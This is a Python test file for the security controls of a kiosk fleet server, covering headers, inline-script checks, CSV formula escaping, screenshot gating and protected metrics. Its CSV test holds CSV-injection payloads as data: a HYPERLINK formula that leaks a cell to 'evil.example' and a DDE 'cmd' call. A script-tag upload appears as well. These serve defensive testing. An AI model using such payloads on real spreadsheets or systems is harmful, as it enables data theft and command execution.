"""Item 8: security headers (CSP without inline script or style, X-Frame-Options DENY,
nosniff, Referrer-Policy), CSV cells that would be formulas escaped, screenshots only in
answer to a command (size-capped, pruned, served with nosniff), ``/metrics`` behind a
token and ``/openapi.json`` off in production mode."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
import requests
from PIL import Image

from fleet.context import FleetConfig
from fleet.protocol import SCREENSHOT_PATH
from fleet.testing import FleetHarness
from kiosk.agent.client import Credentials, FleetClient
from tests.security.conftest import post_signed

WEB = Path(__file__).resolve().parents[2] / "fleet" / "web"


def png(size: int = 0) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (64, 48), "#1d5c99").save(out, "PNG")
    return out.getvalue() + b"\0" * size


@pytest.mark.parametrize("path", ["/", "/login", "/static/app.js", "/api/ops/me", "/healthz"])
def test_security_headers_on_every_answer(harness: FleetHarness, path: str) -> None:
    headers = requests.get(harness.url + path, timeout=10).headers
    csp = headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "style-src 'self'" in csp
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert "frame-ancestors 'none'" in csp
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"


def test_dashboard_pages_have_no_inline_script_or_style() -> None:
    for page in WEB.glob("*.html"):
        html = page.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), page.name
        assert "<style" not in html and not re.search(r"\sstyle\s*=", html), page.name
        assert not re.search(r"\son[a-z]+\s*=", html), page.name
        assert "javascript:" not in html, page.name
    for script in WEB.glob("*.js"):
        text = script.read_text(encoding="utf-8")
        assert not re.search(r"""\bstyle\s*:\s*["']""", text), script.name  # el(…, {style})
        assert "setAttribute(\"style\"" not in text and "eval(" not in text, script.name


def test_usage_csv_cells_cannot_be_formulas(harness: FleetHarness, cred: Credentials) -> None:
    nasty = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
             "-2+3", "@SUM(A1:A9)", "\t=1+1"]
    usage = [{"event_id": f"u{i}", "item_code": f"X{i}", "item_name": name, "kind": "started",
              "ts": 1_800_000_000} for i, name in enumerate(nasty)]
    usage.append({"event_id": "uz", "item_code": "=CODE()", "item_name": "普通 plain",
                  "kind": "started", "ts": 1_800_000_000})
    FleetClient(harness.url, cred).heartbeat({"heartbeats": [], "usage": usage})
    text = harness.login("viewer").get(harness.url + "/api/ops/usage.csv",
                                       timeout=10).content.decode("utf-8-sig")
    import csv

    rows = list(csv.reader(io.StringIO(text)))[1:]
    cells = [cell for row in rows for cell in row[1:4]]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t")], cells
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")" in cells
    assert "普通 plain" in cells


def upload(h: FleetHarness, cred: Credentials, body: bytes) -> requests.Response:
    return post_signed(h.url, cred, body, path=SCREENSHOT_PATH,
                       headers={"Content-Type": "image/png"})


def test_screenshots_only_when_asked_capped_and_pruned(harness: FleetHarness,
                                                       cred: Credentials) -> None:
    assert upload(harness, cred, png()).status_code == 403  # nobody asked
    ops = harness.login("operator")
    client = FleetClient(harness.url, cred)
    for round_ in range(5):
        ops.post(f"{harness.url}/api/ops/terminals/{cred.terminal_id}/commands",
                 json={"kind": "screenshot"}, timeout=10).raise_for_status()
        answer = client.heartbeat({"heartbeats": []})
        assert [c["kind"] for c in answer["commands"]] == ["screenshot"]
        first = upload(harness, cred, png(round_))
        assert first.status_code == 200, first.text
        assert upload(harness, cred, png()).status_code == 403  # one per command
        client.heartbeat({"heartbeats": [], "results": [
            {"id": answer["commands"][0]["id"], "ok": True,
             "result": {"screenshot_id": first.json()["screenshot_id"]}}]})
    with harness.engine.connect() as conn:
        kept = conn.exec_driver_sql("SELECT count(*) FROM screenshots").scalar()
    assert kept == 3  # each terminal keeps its newest three
    ops.post(f"{harness.url}/api/ops/terminals/{cred.terminal_id}/commands",
             json={"kind": "screenshot"}, timeout=10).raise_for_status()
    client.heartbeat({"heartbeats": []})
    assert upload(harness, cred, png(6 * 1024 * 1024)).status_code == 413
    assert upload(harness, cred, b"<html><script>alert(1)</script>").status_code == 400
    detail = ops.get(f"{harness.url}/api/ops/terminals/{cred.terminal_id}", timeout=10).json()
    shot = ops.get(f"{harness.url}/api/ops/screenshots/{detail['screenshot']['id']}",
                   timeout=10)
    assert shot.headers["content-type"] == "image/png"
    assert shot.headers["X-Content-Type-Options"] == "nosniff"


def test_metrics_need_a_token(harness: FleetHarness) -> None:
    url = harness.url + "/metrics"
    assert requests.get(url, timeout=10).status_code == 401
    assert requests.get(url, headers={"Authorization": "Bearer wrong"},
                        timeout=10).status_code == 401
    assert requests.get(url, headers={"Authorization": "Bearer 令牌".encode()},
                        timeout=10).status_code == 401
    assert "fleet_terminals" in harness.metrics()


def test_openapi_is_off_in_production_and_on_in_dev(harness: FleetHarness,
                                                    tmp_path: Path) -> None:
    for path in ("/openapi.json", "/docs", "/redoc"):
        assert requests.get(harness.url + path, timeout=10).status_code == 404
    dev = FleetConfig(db_url=f"sqlite:///{tmp_path}/dev.db", production=False)
    with FleetHarness(dev.db_url or "", dev) as h:
        assert requests.get(h.url + "/openapi.json", timeout=10).status_code == 200
        assert requests.get(h.url + "/metrics", timeout=10).status_code == 200
